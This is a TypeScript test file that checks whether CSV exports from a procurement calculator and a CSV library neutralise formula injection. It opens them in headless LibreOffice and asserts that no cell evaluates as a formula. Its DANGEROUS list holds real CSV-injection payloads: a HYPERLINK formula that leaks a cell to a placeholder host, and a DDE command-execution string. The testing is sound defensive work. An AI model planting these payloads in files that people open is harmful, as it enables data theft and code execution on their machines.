import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { unzipSync, strFromU8 } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compute, problemsCsv, resultsCsv } from '../../examples/calculator/compute';
import type { Table } from '../../examples/calculator/input';
import { toCsv } from '../../src/index';

/**
 * The CSVs the package and the page write cannot carry code (issue 26, OWASP "CSV injection"):
 * opened in a real spreadsheet, Debian's LibreOffice (headless, converting each CSV to .xlsx with
 * formulas evaluated), no cell of them is a formula, texts come back as written (with the leading
 * `'` that neutralises them) and numbers as numbers; a control file that writes `=1+1` as it is
 * comes back as a formula, so the check can fail.
 */
function find(command: string): string | null {
  try {
    return execFileSync('sh', ['-c', `command -v ${command}`], { encoding: 'utf8' }).trim() || null;
  } catch {
    return null;
  }
}
const soffice = find('soffice');
const INSTALL = 'apt-get install -y libreoffice-calc-nogui';
if (soffice === null && process.env.SUNSHINE_REQUIRE_LIBREOFFICE === '1') throw new Error(`SUNSHINE_REQUIRE_LIBREOFFICE=1 but LibreOffice is not installed (${INSTALL})`);

/** Every cell of the first sheet of an .xlsx: its text (shared strings resolved), type and whether it holds a formula. */
function cellsOf(xlsx: Uint8Array): { ref: string; text: string; type: string; formula: boolean }[] {
  const files = unzipSync(xlsx);
  const shared = files['xl/sharedStrings.xml'] === undefined ? [] : [...strFromU8(files['xl/sharedStrings.xml']).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => [...m[1]!.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((t) => t[1]).join(''));
  const unescape = (s: string) => s.replace(/&apos;/g, "'").replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&#13;/g, '\r').replace(/&#9;/g, '\t').replace(/&amp;/g, '&');
  const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
  return [...sheet.matchAll(/<c r="([A-Z]+\d+)"([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)].map(([, ref, attrs, body]) => {
    const type = /t="(\w+)"/.exec(attrs!)?.[1] ?? 'n';
    const v = /<v>([^<]*)<\/v>/.exec(body ?? '')?.[1] ?? '';
    return { ref: ref!, text: unescape(type === 's' ? shared[Number(v)]! : v), type, formula: /<f[ >]/.test(body ?? '') };
  });
}

const DANGEROUS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点击")', '=1+1', '@SUM(1+1)', '+1+1', '-1+1', '\t=1+1', '=cmd|\' /C calc\'!A0'];

describe.skipIf(soffice === null)(`CSV in a spreadsheet (LibreOffice)${soffice === null ? ` (skipped: LibreOffice is not installed; ${INSTALL})` : ''}`, () => {
  let dir: string;
  const xlsx: Record<string, Uint8Array> = {};
  const csv: Record<string, string> = {};

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'sunshine-csv-'));
    // institutions named with formulas, a line of an unknown id that is one, a return (negative amount)
    const institutions = DANGEROUS.map((name, i) => ({ id: `H${i}`, name, level: 'tertiary', ownership: 'public', region: { province: '江苏省', city: '=南通市' } }) as const);
    const row = (id: string, channel: string, amount: string) => ({ 医疗机构编码: id, 入库日期: '2024-01-05', 类别: '药品', 医保代码: 'X', 采购渠道: channel, '金额（元）': amount });
    const rows = [...institutions.flatMap((i) => [row(i.id, '省平台', '800'), row(i.id, '线下', '200')]), row('=1+1', '省平台', '5'), row('H0', '线下', '-36500.00')];
    const table: Table = { name: '=lines.csv', headers: Object.keys(rows[0]!), rows, firstRow: 2 };
    const r = await compute([table], [], institutions, [], { policy: 'jiangsu-2022', period: { from: '2024-01-01', to: '2024-03-31' }, periodLabel: '2024年第一季度', by: 'city', digits: 2, asOf: '2024-04-10' });
    csv.results = resultsCsv(r);
    csv.problems = problemsCsv(r);
    csv.library = toCsv([['text', 'amount'], ...DANGEROUS.map((d, i) => [d, i % 2 === 0 ? `-${i}.5` : String(i)])]);
    // the control: =1+1 written as it is, as a CSV writer that does not neutralise would
    csv.control = '\uFEFFname,amount\r\n=1+1,5\r\n';
    for (const [name, text] of Object.entries(csv)) writeFileSync(join(dir, `${name}.csv`), text);
    // CSV filter: comma, double quote, UTF-8 (76), from line 1, …, token 13 true: evaluate formulas
    execFileSync(soffice!, ['--headless', '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true', '--convert-to', 'xlsx', '--outdir', dir, ...Object.keys(csv).map((n) => join(dir, `${n}.csv`))], { stdio: 'pipe', timeout: 120_000 });
    for (const name of Object.keys(csv)) xlsx[name] = readFileSync(join(dir, `${name}.xlsx`));
  }, 180_000);
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('reads the control file\'s =1+1 as a formula (so the check below can fail)', () => {
    const cells = cellsOf(xlsx.control!);
    expect(cells.find((c) => c.ref === 'A2')).toMatchObject({ formula: true, text: '2' });
  });

  it.each(['results', 'problems', 'library'])('finds no formula in %s.csv, its texts as written and its numbers as numbers', (name) => {
    const cells = cellsOf(xlsx[name]!);
    expect(cells.filter((c) => c.formula)).toEqual([]);
    // every CSV cell that is a number is a number in the sheet; every other is the same text (a leading ' where neutralised)
    const written = csv[name]!.slice(1).split('\r\n').filter((l) => l !== '');
    expect(cells.length).toBeGreaterThan(written.length);
    for (const c of cells) {
      if (c.type === 'n') expect(Number.isFinite(Number(c.text))).toBe(true);
    }
    const texts = cells.filter((c) => c.type !== 'n').map((c) => c.text);
    for (const d of DANGEROUS) {
      if (name !== 'problems' || d === '=1+1') {
        // a name or value that would start a formula is there, as text, after its '
        expect(texts.some((t) => t.includes(`'${d.replace(/\r/g, '')}`) || t.includes(`'${d.trim()}`))).toBe(true);
      }
    }
  });

  it('keeps negative amounts numbers: -36500 in the results, -0.5 … in the library\'s CSV', () => {
    const library = cellsOf(xlsx.library!);
    // rows 2, 4, 6, 8: amounts -0.5, -2.5, -4.5, -6.5 as numbers
    expect(library.filter((c) => c.ref.startsWith('B') && c.type === 'n').map((c) => c.text)).toEqual(['-0.5', '1', '-2.5', '3', '-4.5', '5', '-6.5']);
    const results = cellsOf(xlsx.results!);
    // H0: 800 + (−36,500) on the platform? no: offline, so H0's total 800 + 200 − 36,500 = −35,500
    expect(results.some((c) => c.type === 'n' && c.text === '-35500')).toBe(true);
  });
});
